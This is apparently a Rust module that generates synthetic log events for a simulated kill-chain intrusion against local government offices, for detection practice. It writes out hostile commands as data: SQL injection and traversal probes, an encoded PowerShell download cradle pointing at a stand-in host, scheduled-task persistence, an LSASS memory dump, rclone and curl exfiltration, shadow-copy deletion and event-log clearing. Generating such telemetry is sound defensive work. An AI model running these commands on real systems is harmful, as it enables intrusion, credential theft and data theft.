//! What does the attacker do, step by step through the kill chain, and who met him earlier without noticing?
//!
//! Everything of the attacker's is in names and networks reserved for examples (RFC 2606, RFC 5737). No sample, script or address is real.

use domain::detection::KillChainStage;
use jiff::SignedDuration;

use super::cast::{Cast, Member};
use super::dice::Dice;
use super::scenario::{Act, Occurrence};
use super::shape::{Program, Seen, auditd, dns_server, firewall, mail, powershell, security, started, sysmon, web};
use super::work_windows::{BROWSER, EXPLORER, OUTLOOK, SVCHOST, WORD};

/// The name under which the attacker's program asks for orders.
pub(super) const C2_NAME: &str = "cdn.sync-office.example";
/// Where that name leads.
pub(super) const C2_ADDRESS: &str = "203.0.113.77";
/// Where data is carried to.
const DROP_ADDRESS: &str = "203.0.113.140";
/// The name of that place.
const DROP_NAME: &str = "in.file-drop.example";
/// From where the attacker looks around and mails.
const SCOUT_ADDRESS: &str = "203.0.113.9";
/// Where the second part is fetched.
const STAGE_URL: &str = "http://203.0.113.77/img/update.png";
/// The attacker's program.
const IMPLANT: &str = "C:\\Users\\Public\\Libraries\\officesync.exe";
/// Its hash.
const IMPLANT_SHA256: &str = "7F1C0A94D5E2B8366A0F9E7D4C3B2A1908F7E6D5C4B3A29180F7E6D5C4B3A291";

/// What of the attacker's an analyst would recognise and block.
pub(super) const TRACES: [&str; 7] = [
    C2_NAME,
    C2_ADDRESS,
    DROP_NAME,
    DROP_ADDRESS,
    SCOUT_ADDRESS,
    STAGE_URL,
    "7f1c0a94d5e2b8366a0f9e7d4c3b2a1908f7e6d5c4b3a29180f7e6d5c4b3a291",
];

/// A quiet body met the attacker some time ago: a browser asked for his name, a connection went out, nothing looked wrong.
pub(super) fn earlier_meeting(dice: &mut Dice, member: &Member) -> Vec<Occurrence> {
    let machine = dice.below(200);
    let client = member.address(machine);
    let port = 49_152 + dice.below(16_000);
    let minutes = 30 + i64::try_from(dice.below(300)).unwrap_or(0);
    let asked = if dice.below(2) == 0 {
        dns_server(dice, member, &client, C2_NAME, C2_ADDRESS)
    } else {
        let computer = member.workstation(machine);
        sysmon(dice, &computer, 22).with_all(&[
            ("QueryName", C2_NAME),
            ("QueryStatus", "0"),
            ("QueryResults", "::ffff:203.0.113.77;"),
            ("Image", BROWSER),
            ("User", &member.user(machine)),
        ])
    };
    let connected = firewall(dice, member, (&client, port), (C2_ADDRESS, 443), ("accept", "ssl"));
    let later = |seconds: i64| SignedDuration::from_secs(minutes * 60 - seconds);
    vec![done(member, asked, later(0)), done(member, connected, later(2))]
}

/// The attack, act by act.
pub(super) fn acts(dice: &mut Dice, cast: &Cast) -> Vec<Act> {
    vec![
        reconnaissance(dice, cast),
        weaponization(dice, cast),
        delivery(dice, cast),
        exploitation(dice, cast),
        installation(dice, cast),
        command_and_control(dice, cast),
        actions(dice, cast),
    ]
}

/// He tries the county's public site for holes.
fn reconnaissance(dice: &mut Dice, cast: &Cast) -> Act {
    let county = &cast.county;
    let mut occurrences = Vec::new();
    for round in 0..40 {
        let (path, query) = *[
            ("/news/detail", "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
            ("/.git/config", "-"),
            ("/cgi-bin/../../../../etc/passwd", "-"),
            ("/phpmyadmin/index.php", "-"),
            ("/eservice/apply", "no=1%20AND%20SLEEP(5)"),
        ]
        .get(round % 5)
        .unwrap_or(&("/", "-"));
        let status = if path == "/news/detail" { 500 } else { 404 };
        occurrences.push(web(dice, county, SCOUT_ADDRESS, ("GET", path, query), status, "sqlmap/1.7.2#stable (https://sqlmap.org)"));
    }
    act(
        KillChainStage::Reconnaissance,
        ["有人以 sqlmap 掃描縣市政府網站", "Someone scans the county's site with sqlmap"],
        county,
        occurrences,
    )
}

/// A machine of the office that he already rents assembles the weapon from text.
fn weaponization(dice: &mut Dice, cast: &Cast) -> Act {
    let office = &cast.office;
    let computer = office.workstation(41);
    let seen = sysmon(dice, &computer, 1);
    let decode = started(
        dice,
        seen,
        office,
        &CERTUTIL,
        "certutil -f -decode C:\\Users\\Public\\Documents\\template.txt C:\\Users\\Public\\Documents\\template.dotm",
        (EXPLORER, "C:\\Windows\\Explorer.EXE"),
    );
    let file = sysmon(dice, &computer, 11).with_all(&[
        ("Image", CERTUTIL.image),
        ("TargetFilename", "C:\\Users\\Public\\Documents\\template.dotm"),
        ("User", &office.user(41)),
    ]);
    act(
        KillChainStage::Weaponization,
        ["在共用電腦上組裝帶巨集的範本", "A template with macros is assembled on a shared machine"],
        office,
        vec![decode, file],
    )
}

/// He mails it to the office as an official letter.
fn delivery(dice: &mut Dice, cast: &Cast) -> Act {
    let office = &cast.office;
    let computer = office.workstation(17);
    let letter = mail(dice, office, "service@edoc-gov.example", "【急件】公文附件請儘速簽收", "公文附件.pdf.docm", SCOUT_ADDRESS);
    let saved = sysmon(dice, &computer, 11).with_all(&[
        ("Image", OUTLOOK),
        ("TargetFilename", "C:\\Users\\user017\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q8R21\\公文附件.pdf.docm"),
        ("User", &office.user(17)),
    ]);
    act(
        KillChainStage::Delivery,
        ["區公所收到偽裝公文的巨集文件", "The office receives a macro document posing as an official letter"],
        office,
        vec![letter, saved],
    )
}

/// Somebody opens it.
fn exploitation(dice: &mut Dice, cast: &Cast) -> Act {
    let office = &cast.office;
    let computer = office.workstation(17);
    let seen = sysmon(dice, &computer, 1);
    let shell = started(
        dice,
        seen,
        office,
        &POWERSHELL,
        "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        (WORD, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"公文附件.pdf.docm\""),
    );
    let script = format!("IEX (New-Object Net.WebClient).DownloadString('{STAGE_URL}')");
    let logged = powershell(dice, &computer, &script, "");
    act(
        KillChainStage::Exploitation,
        ["承辦人開啟文件，Word 啟動 PowerShell", "The document is opened; Word starts PowerShell"],
        office,
        vec![shell, logged],
    )
}

/// His program settles on the machine.
fn installation(dice: &mut Dice, cast: &Cast) -> Act {
    let office = &cast.office;
    let computer = office.workstation(17);
    let dropped =
        sysmon(dice, &computer, 11).with_all(&[("Image", POWERSHELL.image), ("TargetFilename", IMPLANT), ("User", &office.user(17))]);
    let key = sysmon(dice, &computer, 13).with_all(&[
        ("EventType", "SetValue"),
        ("Image", POWERSHELL.image),
        ("TargetObject", "HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OfficeSync"),
        ("Details", IMPLANT),
        ("User", &office.user(17)),
    ]);
    let seen = sysmon(dice, &computer, 1);
    let task = started(
        dice,
        seen,
        office,
        &SCHTASKS,
        "schtasks.exe /create /f /sc minute /mo 15 /tn OfficeSync /tr C:\\Users\\Public\\Libraries\\officesync.exe",
        (POWERSHELL.image, "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgA"),
    );
    act(
        KillChainStage::Installation,
        ["植入程式並設定開機自動執行", "The implant settles: run key and scheduled task"],
        office,
        vec![dropped, key, task],
    )
}

/// It asks for orders; he moves on to the county with what he found.
fn command_and_control(dice: &mut Dice, cast: &Cast) -> Act {
    let (office, county) = (&cast.office, &cast.county);
    let computer = office.workstation(17);
    let client = office.address(17);
    let seen = sysmon(dice, &computer, 1);
    let implant = Program { image: IMPLANT, original: "officesync.exe", description: "Office Sync", company: "-" };
    let begun = started(dice, seen, office, &implant, IMPLANT, (SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"))
        .with("Hashes", format!("SHA256={IMPLANT_SHA256}"));
    let asked = sysmon(dice, &computer, 22).with_all(&[
        ("QueryName", C2_NAME),
        ("QueryStatus", "0"),
        ("QueryResults", "::ffff:203.0.113.77;"),
        ("Image", IMPLANT),
        ("User", &office.user(17)),
    ]);
    let connected = sysmon(dice, &computer, 3)
        .with_all(&[
            ("Image", IMPLANT),
            ("User", &office.user(17)),
            ("Protocol", "tcp"),
            ("Initiated", "true"),
            ("SourceIp", &client),
            ("SourceHostname", &computer),
            ("DestinationIp", C2_ADDRESS),
            ("DestinationHostname", C2_NAME),
        ])
        .with("SourcePort", 50_017)
        .with("DestinationPort", 443);
    let mut occurrences: Vec<Occurrence> =
        [begun, asked, connected].into_iter().map(|seen| done(office, seen, SignedDuration::ZERO)).collect();
    for beat in 0..60 {
        let beacon = firewall(dice, office, (&client, 50_020 + beat), (C2_ADDRESS, 443), ("accept", "ssl"));
        occurrences.push(done(office, beacon, SignedDuration::ZERO));
    }
    occurrences.extend(lateral(dice, cast).into_iter().map(|seen| done(county, seen, SignedDuration::ZERO)));
    Act {
        stage: KillChainStage::CommandAndControl,
        told: ["植入程式連回中繼站，並橫向移動至縣市政府", "The implant calls home; the attacker moves on to the county"],
        occurrences,
    }
}

/// With the office's credentials onto the county's server, and there to everybody's.
fn lateral(dice: &mut Dice, cast: &Cast) -> Vec<Seen> {
    let (office, county) = (&cast.office, &cast.county);
    let server = county.server("files01");
    let signed_in = security(dice, &server, 4624)
        .with_all(&[
            ("TargetUserName", "svc_edoc"),
            ("TargetDomainName", "OA0002"),
            ("SubjectUserName", "-"),
            ("LogonType", "3"),
            ("AuthenticationPackageName", "NTLM"),
            ("LogonProcessName", "NtLmSsp"),
            ("KeyLength", "0"),
            ("IpAddress", &office.address(17)),
        ])
        .with("IpPort", 50_400);
    let seen = sysmon(dice, &server, 1);
    let service = started(
        dice,
        seen,
        county,
        &PSEXESVC,
        "C:\\Windows\\PSEXESVC.exe",
        ("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe"),
    );
    let seen = sysmon(dice, &server, 1);
    let dump = started(
        dice,
        seen,
        county,
        &RUNDLL32,
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 648 C:\\Windows\\Temp\\m.dmp full",
        ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c rundll32.exe"),
    );
    let memory = sysmon(dice, &server, 10).with_all(&[
        ("SourceImage", RUNDLL32.image),
        ("TargetImage", "C:\\Windows\\System32\\lsass.exe"),
        ("GrantedAccess", "0x1010"),
        ("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+2f2a1|UNKNOWN(0000017A2B3C4D5E)"),
        ("SourceUser", "NT AUTHORITY\\SYSTEM"),
        ("TargetUser", "NT AUTHORITY\\SYSTEM"),
    ]);
    vec![signed_in, service, dump, memory]
}

/// He collects files at the neighbour and carries them out, then covers his tracks.
fn actions(dice: &mut Dice, cast: &Cast) -> Act {
    let neighbour = &cast.neighbour;
    let server = neighbour.server("files01");
    let parent = ("C:\\Windows\\System32\\cmd.exe", "cmd.exe");
    let mut occurrences = Vec::new();
    for (program, command) in [
        (&SEVEN_ZIP, "7z.exe a -hp8841 -v200m C:\\PerfLogs\\a.7z D:\\Share\\戶政\\*"),
        (&RCLONE, "rclone.exe copy C:\\PerfLogs\\ drop:in --config C:\\PerfLogs\\r.conf --no-check-certificate --transfers 8"),
        (&VSSADMIN, "vssadmin.exe delete shadows /all /quiet"),
        (&WEVTUTIL, "wevtutil.exe cl Security"),
    ] {
        let seen = sysmon(dice, &server, 1);
        occurrences.push(started(dice, seen, neighbour, program, command, parent));
    }
    let client = neighbour.address(5);
    occurrences.push(
        sysmon(dice, &server, 3)
            .with_all(&[
                ("Image", RCLONE.image),
                ("User", "OA0003\\svc_edoc"),
                ("Protocol", "tcp"),
                ("Initiated", "true"),
                ("SourceIp", &client),
                ("DestinationIp", DROP_ADDRESS),
                ("DestinationHostname", DROP_NAME),
            ])
            .with("SourcePort", 51_000)
            .with("DestinationPort", 443),
    );
    for part in 0..30 {
        let sent = firewall(dice, neighbour, (&client, 51_000 + part), (DROP_ADDRESS, 443), ("accept", "ssl"));
        occurrences.push(sent.with("sentbyte", 200_000_000));
    }
    let host = neighbour.server("app01");
    occurrences.push(auditd(dice, &host, "/usr/bin/curl", &["curl", "-s", "-T", "/tmp/.x.tgz", "https://in.file-drop.example/u"]));
    act(
        KillChainStage::Actions,
        ["大量資料自鄰近縣政府外傳，並清除紀錄", "Data leaves a neighbouring government; traces are wiped"],
        neighbour,
        occurrences,
    )
}

fn act(stage: KillChainStage, told: [&'static str; 2], member: &Member, seen: Vec<Seen>) -> Act {
    Act { stage, told, occurrences: seen.into_iter().map(|seen| done(member, seen, SignedDuration::ZERO)).collect() }
}

fn done(member: &Member, seen: Seen, before: SignedDuration) -> Occurrence {
    Occurrence { body: member.oid.clone(), sensor: seen.sensor, before, malicious: true, fields: seen.fields }
}

const fn windows_program(image: &'static str, original: &'static str, description: &'static str) -> Program {
    Program { image, original, description, company: "Microsoft Corporation" }
}

const CERTUTIL: Program = windows_program("C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", "CertUtil.exe");
const POWERSHELL: Program =
    windows_program("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell");
const SCHTASKS: Program = windows_program("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool");
const RUNDLL32: Program = windows_program("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)");
const VSSADMIN: Program =
    windows_program("C:\\Windows\\System32\\vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Volume Shadow Copy Service");
const WEVTUTIL: Program = windows_program("C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe", "Eventing Command Line Utility");
const PSEXESVC: Program =
    Program { image: "C:\\Windows\\PSEXESVC.exe", original: "psexesvc.exe", description: "PsExec Service", company: "Sysinternals" };
const SEVEN_ZIP: Program =
    Program { image: "C:\\PerfLogs\\7z.exe", original: "7z.exe", description: "7-Zip Console", company: "Igor Pavlov" };
const RCLONE: Program = Program {
    image: "C:\\PerfLogs\\rclone.exe",
    original: "rclone.exe",
    description: "Rsync for cloud storage",
    company: "https://rclone.org",
};
